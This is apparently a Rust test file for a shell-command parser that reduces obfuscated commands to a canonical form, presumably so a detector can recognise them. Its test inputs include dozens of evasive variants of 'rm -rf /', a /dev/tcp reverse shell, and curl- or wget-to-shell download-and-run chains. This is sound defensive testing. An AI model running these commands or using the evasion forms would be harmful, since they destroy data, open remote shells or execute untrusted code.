use super::*;
use proptest::prelude::*;

/// The pipelines of a text, each command as its words.
fn pipelines(text: &str) -> Vec<String> {
    let mut all = Vec::new();
    read(text.as_bytes(), |commands, _| {
        let commands: Vec<String> = commands
            .iter()
            .map(|command| {
                let words = command.words.iter().map(|word| String::from_utf8_lossy(&word.text).into_owned());
                let redirects = command.redirects.iter().map(|redirect| {
                    format!("{}{}", redirect.operator, String::from_utf8_lossy(&redirect.target))
                });
                words.chain(redirects).collect::<Vec<_>>().join(" ")
            })
            .collect();
        all.push(commands.join(" | "));
    });
    all
}

#[test]
fn one_command_has_one_form() {
    for text in [
        "rm -rf /",
        "$ rm -rf /",
        "root@host:~# rm -rf /",
        "rm  -rf\t/ # everything",
        "'rm' -rf \"/\"",
        "r\\m -r'f' /",
        "$(echo rm) -rf /",
        "`echo rm` -rf /",
        "$(printf 'r%s' m) -rf /",
        "$'\\x72\\155' -rf /",
        "a=rm; $a -rf /",
        "a=r b=m; $a$b ${c:--rf} /",
        "{rm,-rf,/}",
        "rm${IFS}-rf$IFS/",
        "rm \\\n -rf /",
        "$(echo cm0K | base64 -d) -rf /",
        "rm -rf ${HOME:0:1}",
        "x='rm -rf /'; $x",
        "if true; then rm -rf /; fi",
        "bash -c 'rm -rf /'",
        "sh -ec \"rm -rf /\"",
        "sudo -u root bash -c 'rm -rf /'",
        "eval rm -rf '/'",
        "echo cm0gLXJmIC8K | base64 -d | sh",
        "bash <<< 'rm -rf /'",
        "bash <<EOF\nrm -rf /\nEOF\n",
        "ssh -p 22 host 'rm -rf /'",
        "(cd x; rm -rf /)",
        "f() { rm -rf /; }",
        "python3 -c 'import os; os.system(\"rm -rf /\")'",
        "os.system(\"rm -rf /\")",
        "while true; do rm -rf /; done",
        "echo \"$(rm -rf /)\"",
    ] {
        assert!(
            pipelines(text).iter().any(|one| one == "rm -rf /" || one.ends_with("| rm -rf /")),
            "{text}: {:?}",
            pipelines(text)
        );
    }
}

#[test]
fn pipelines_are_told_apart() {
    assert_eq!(pipelines("a 1 | b 2 && c; d &"), ["a 1 | b 2", "c", "d"]);
    assert_eq!(pipelines("bash -i >& /dev/tcp/h/1 0>&1"), ["bash -i >&/dev/tcp/h/1 >&1"]);
    assert_eq!(pipelines("cat <<'E' > f\nrm -rf /\nE\nls"), ["cat >f", "ls"]);
    assert_eq!(pipelines("curl -s x | sudo sh"), ["curl -s x | sudo sh | sh"]);
    assert_eq!(pipelines("echo 'a; rm -rf /'"), ["echo a; rm -rf /"]);
    assert_eq!(pipelines("echo \"don't\" # rm x"), ["echo don't"]);
    assert_eq!(pipelines("sh -c \"$(curl x)\"").last().unwrap(), "$()");
    assert!(pipelines("sh -c \"$(curl x)\"").contains(&"curl x | sh -c $()".to_owned()));
    assert!(pipelines("bash <(curl x)").contains(&"curl x | bash /dev/fd/63".to_owned()));
    assert!(
        pipelines("wget http://h/a.sh; chmod +x a.sh; ./a.sh")
            .contains(&"wget http://h/a.sh | sh ./a.sh".to_owned())
    );
    assert!(
        pipelines("curl -sSLo /tmp/x h && bash /tmp/x")
            .contains(&"curl -sSLo /tmp/x h | sh /tmp/x".to_owned())
    );
    assert_eq!(pipelines(r"C:\Windows\certutil.exe -f \\h\a"), [r"C:\Windows\certutil.exe -f \\h\a"]);
}

#[test]
fn spans_are_those_of_pipelines() {
    let text = "ls; curl x | sh -c 'rm y' && pwd";
    let mut spans = Vec::new();
    read(text.as_bytes(), |_, span| spans.push(text.get(span).unwrap()));
    assert_eq!(spans, ["ls", "curl x | sh -c 'rm y'", "curl x | sh -c 'rm y'", "pwd"]);
}

proptest! {
    #[test]
    fn any_text_can_be_read(text in r#"([a-c=;|&<>(){}$`'"\\ \n#@*/-]|\$\(|<<E\n|sh -c |x=|echo |base64 -d |\PC){0,80}"#) {
        let mut last = 0;
        read(text.as_bytes(), |commands, span| {
            assert!(!commands.is_empty());
            assert!(span.start <= span.end && span.end <= text.len());
            last += 1;
        });
        prop_assert!(last <= 10_000);
    }

    #[test]
    fn what_is_quoted_is_read_back(words in prop::collection::vec(r#"[a-z]([a-z'"$`\\ ;|&<>(){}*\n-]){0,8}"#, 1..5)) {
        let line = quote(words.iter().map(String::as_str));
        let mut first: Option<Vec<String>> = None;
        read(line.as_bytes(), |commands, _| {
            let words = commands[0].words.iter().map(|word| String::from_utf8_lossy(&word.text).into_owned());
            first.get_or_insert(words.collect());
        });
        // Words that a shell takes for its own, and commands that run others, come first in other forms.
        if !is_special(&words[0]) {
            prop_assert_eq!(first.unwrap(), words);
        }
    }
}

fn is_special(word: &str) -> bool {
    ["if", "then", "else", "elif", "fi", "do", "done", "while", "until", "esac", "coproc"].contains(&word)
}
